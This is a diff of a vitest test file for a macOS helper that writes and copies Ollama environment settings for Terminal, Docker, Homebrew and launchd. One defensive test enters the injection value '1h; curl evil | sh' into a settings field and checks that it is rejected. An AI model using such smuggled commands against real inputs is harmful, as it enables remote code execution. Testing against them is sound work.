@@ -3,7 +3,13 @@ import { mkdir, readFile, writeFile } from "node:fs/promises";
 import { dirname } from "node:path";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { KEPT_NAMES, KEPT_SETTINGS, readSettingsAgentPlist, settingsAgentPlist } from "../../src/fit/kept-settings";
+import {
+  KEPT_NAMES,
+  KEPT_SETTINGS,
+  keptLines,
+  readSettingsAgentPlist,
+  settingsAgentPlist,
+} from "../../src/fit/kept-settings";
 import { settingsAgentPath } from "../../src/mac/settings-agent";
 import SetGpuLimit from "../../src/set-gpu-limit";
 import { renderCommand } from "../support";
@@ -32,7 +38,7 @@ describe("Ollama's settings that survive a restart", () => {
     });
     expect(Object.fromEntries(stage.mac.launchctlEnv)).toMatchObject({ OLLAMA_CONTEXT_LENGTH: "32768" });
     expect(stage.mac.prompts).toEqual([]);
-    screen.says("sets these at each login", "context slider wins");
+    screen.says("sets these at each login", "macOS loads it at the next login.", "context slider wins");
     await screen.agree("Remove");
     await screen.action("Remove the LaunchAgent");
     expect(existsSync(path)).toBe(false);
@@ -66,15 +72,59 @@ describe("Ollama's settings that survive a restart", () => {
     expect(await readFile(path, "utf8")).toBe("<plist>mine</plist>");
   });
 
-  it("have a line for Terminal, and only a line to copy for the host", async () => {
+  it("have lines to copy for servers that aren't reached, and only a line to copy for the host", async () => {
     const stage = await setStage();
     const screen = await openForm(stage);
     await screen.fill("Parallel Requests", "2");
-    await screen.action("Copy Terminal Line");
-    expect(screen.clipboard()).toBe("OLLAMA_NUM_PARALLEL=2 ollama serve");
+    await screen.fill("KV Cache Type", "q8_0");
+    const copied = async (place: string) => {
+      await screen.action(`Copy Lines… › ${place}`);
+      return screen.clipboard();
+    };
+    expect(await copied("For a Server in Terminal")).toBe("export OLLAMA_KV_CACHE_TYPE=q8_0 OLLAMA_NUM_PARALLEL=2");
+    expect(await copied("For Docker")).toBe("-e OLLAMA_KV_CACHE_TYPE=q8_0 -e OLLAMA_NUM_PARALLEL=2");
+    expect(await copied("For a Launchd Job of Your Own")).toContain(
+      "<key>OLLAMA_KV_CACHE_TYPE</key><string>q8_0</string>",
+    );
+    expect(await copied("For Homebrew's Service")).toContain(
+      "plutil -replace EnvironmentVariables.OLLAMA_KV_CACHE_TYPE -string q8_0 ~/Library/LaunchAgents/homebrew.mxcl.ollama.plist && ",
+    );
+    screen.toast("SUCCESS", "brew services restart and upgrades write that file again.");
     await screen.action("Copy Host Line");
     screen.toast("SUCCESS", "opens Ollama to the network");
   });
+
+  it("are copied for no place with a value that isn't one of Ollama's, nor without any", async () => {
+    const stage = await setStage();
+    const screen = await openForm(stage);
+    await screen.action("Copy Lines… › For Docker");
+    screen.toast("FAILURE", "Fill in a value first.");
+    await screen.fill("Keep Alive", "1h; curl evil | sh");
+    for (const place of [
+      "For a Server in Terminal",
+      "For Homebrew's Service",
+      "For a Launchd Job of Your Own",
+      "For Docker",
+    ]) {
+      await screen.action(`Copy Lines… › ${place}`);
+      screen.toast("FAILURE", "Keep Alive: Such as 30m, 1h or -1.");
+    }
+    expect(screen.clipboard()).toBeUndefined();
+  });
+});
+
+describe("the lines to copy", () => {
+  it.each(["terminal", "homebrew", "launchd", "container"] as const)(
+    "for %s hold values of Ollama's alone",
+    (place) => {
+      fc.assert(
+        fc.property(fc.constantFrom(...KEPT_NAMES), fc.string(), (name, value) => {
+          if (KEPT_SETTINGS[name].takes(value)) expect(keptLines(place, { [name]: value })).toContain(value);
+          else expect(() => keptLines(place, { [name]: value })).toThrow(RangeError);
+        }),
+      );
+    },
+  );
 });
 
 describe("the property list", () => {
